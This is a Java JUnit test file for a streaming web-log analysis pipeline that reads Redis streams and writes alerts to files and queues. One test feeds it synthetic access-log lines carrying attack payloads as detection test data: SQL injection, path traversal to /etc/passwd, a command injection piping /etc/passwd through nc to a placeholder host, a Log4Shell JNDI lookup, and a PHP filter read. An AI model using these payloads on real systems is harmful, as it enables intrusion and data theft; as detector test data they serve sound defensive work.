package dev.spoor.pipeline;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.is;
import static org.junit.Assert.assertThrows;
import static org.junit.Assume.assumeTrue;

import dev.spoor.fixtures.runs.LiveOutput;
import dev.spoor.fixtures.servers.RedisServer;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.locks.LockSupport;
import java.util.stream.Stream;
import org.apache.beam.runners.direct.DirectOptions;
import org.junit.Rule;
import org.junit.Test;
import org.junit.rules.TemporaryFolder;

/** Live runs on the DirectRunner; the same on Flink is an integration test. */
public class LiveJobTest {
  @Rule public final TemporaryFolder folder = new TemporaryFolder();

  /** Silence is taken for the end sooner than usual. */
  private static final String SOON = "&idleAfter=1s&leftOutAfter=3s";

  private static final Console SILENT =
      new Console(
          InputStream.nullInputStream(),
          new PrintStream(PrintStream.nullOutputStream(), false, UTF_8),
          new PrintStream(PrintStream.nullOutputStream(), false, UTF_8),
          Map.of(),
          0);

  private static AnalyzeOptions options(String... arguments) {
    List<String> all = new ArrayList<>(List.of(arguments));
    all.add("--quiet");
    AnalyzeOptions options = CommandLine.analyze(all, Map.of());
    // As the profile of the runner would have it, which is not here.
    options.as(DirectOptions.class).setBlockOnRun(false);
    return options;
  }

  @Test
  public void messagesOfAStreamBecomeFiles() throws Exception {
    Optional<RedisServer> started = RedisServer.start(folder.newFolder("redis").toPath());
    assumeTrue("no redis-server", started.isPresent());
    Path output = folder.newFolder("out").toPath();
    try (RedisServer redis = started.get()) {
      LiveOutput expected = LiveOutput.feed(redis);
      try (LiveJob job =
          LiveJob.start(
              options(
                  "--input=" + redis.uri("redis-stream") + "/sessions_stream?consumer=w" + SOON,
                  "--input="
                      + redis.uri("redis-stream")
                      + "/weblogs?format=combined&group=g"
                      + SOON,
                  "--output=" + output,
                  "--gap=1s",
                  "--earlyFirings=1s"),
              SILENT)) {
        expected.await(output);
        assertThat(job.hasEnded(), is(false));
      }
      expected.check(output);
    }
  }

  @Test
  public void alertsGoToFilesAndQueuesAlike() throws Exception {
    Optional<RedisServer> started = RedisServer.start(folder.newFolder("redis").toPath());
    assumeTrue("no redis-server", started.isPresent());
    Path output = folder.newFolder("out").toPath();
    try (RedisServer redis = started.get()) {
      String[] attacks = {
        "/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
        "/?file=../../../../etc/passwd",
        "/?cmd=;cat%20/etc/passwd|nc%20192.0.2.9%204444",
        "/?x=${jndi:ldap://192.0.2.9/a}",
        "/?page=php://filter/convert.base64-encode/resource=index.php",
      };
      for (int i = 0; i < 40; i++) {
        redis.command(
            "XADD",
            "weblogs",
            "*",
            "line",
            "203.0.113.7 - - [03/Mar/2025:10:15:%02d +0000] \"GET %s HTTP/1.1\" 200 5 \"-\" \"sqlmap/1.5\""
                .formatted(i, attacks[i % attacks.length]));
      }
      String stream = redis.uri("redis-stream");
      try (LiveJob job =
          LiveJob.start(
              options(
                  "--input=" + stream + "/weblogs?format=combined&group=g" + SOON,
                  "--alerts=" + stream + "/alerts?maxLength=100," + stream + "/copies",
                  "--output=" + output,
                  "--gap=20s",
                  "--earlyFirings=1s"),
              SILENT)) {
        long end = System.nanoTime() + Duration.ofMinutes(2).toNanos();
        while (!(redis.command("XRANGE", "alerts", "-", "+").contains("\"settled\"")
                && redis.command("XRANGE", "copies", "-", "+").contains("\"settled\""))
            || alerts(output).isEmpty()) {
          assertThat("waited for an alert", System.nanoTime() < end, is(true));
          assertThat(job.hasEnded(), is(false));
          LockSupport.parkNanos(Duration.ofMillis(100).toNanos());
        }
      }
      List<String> expected = alerts(output);
      for (String each : List.of("alerts", "copies")) {
        String messages = redis.command("XRANGE", each, "-", "+");
        assertThat(redis.command("XLEN", each), is(String.valueOf(expected.size())));
        for (String alert : expected) {
          assertThat(messages, containsString(" data " + alert));
        }
      }
    }
  }

  private static List<String> alerts(Path output) throws IOException {
    List<String> lines = new ArrayList<>();
    try (Stream<Path> files = Files.walk(output)) {
      for (Path file :
          files.filter(each -> each.getFileName().toString().startsWith("alerts-")).toList()) {
        lines.addAll(Files.readAllLines(file));
      }
    }
    return lines;
  }

  @Test
  public void refusesWhatDoesNotGoTogether() {
    String queue = "--input=kafka://broker.example/t";
    String[][] cases = {
      {queue, "--input=access.log", "--output=out", "ends, and a queue does not"},
      {queue, "--output=gs://bucket/out", "is not local"},
      {queue, "--output=out", "--outputFormat=json", "needs an input that ends"},
      {queue, "--output=out", "--alerts=" + queue.substring(8), "--detect=false", "--alerts needs"},
    };
    for (String[] each : cases) {
      String[] arguments = java.util.Arrays.copyOf(each, each.length - 1);
      UsageException e = assertThrows(each[1], UsageException.class, () -> options(arguments));
      assertThat(e.getMessage(), containsString(each[each.length - 1]));
    }
    String[][] atStart = {
      {"redis-stream://a.example/one/two", "one stream"},
      {"kafka://a.example/t?fromat=x", "fromat="},
      {"kafka://a.example/t?format=nothing", "nothing"},
      {"kafka://u:p@a.example/t", "passwordFile="},
    };
    for (String[] each : atStart) {
      AnalyzeOptions options = options("--input=" + each[0], "--output=" + folder.getRoot());
      UsageException e =
          assertThrows(each[0], UsageException.class, () -> LiveJob.start(options, SILENT));
      assertThat(e.getMessage(), containsString(each[1]));
    }
    String[][] sinks = {
      {"--sessions=jdbc:oracle://u@db.example/d", "--sessions: jdbc:oracle: only"},
      {"--sessions=out.db", "--sessions: a URI such as"},
      {"--alerts=redis://a.example", "--alerts: redis://a.example is neither kafka://"},
      {"--alerts=kafka://a.example/t,kafka://a.example/t?patience=x", "--alerts: patience=x"},
      {"--alerts=redis-stream://a.example/t?maxLength=0", "--alerts: maxLength=0"},
    };
    for (String[] each : sinks) {
      AnalyzeOptions options = options(queue, "--output=" + folder.getRoot(), each[0]);
      UsageException e =
          assertThrows(each[0], UsageException.class, () -> LiveJob.start(options, SILENT));
      assertThat(e.getMessage(), containsString(each[1]));
    }
  }
}
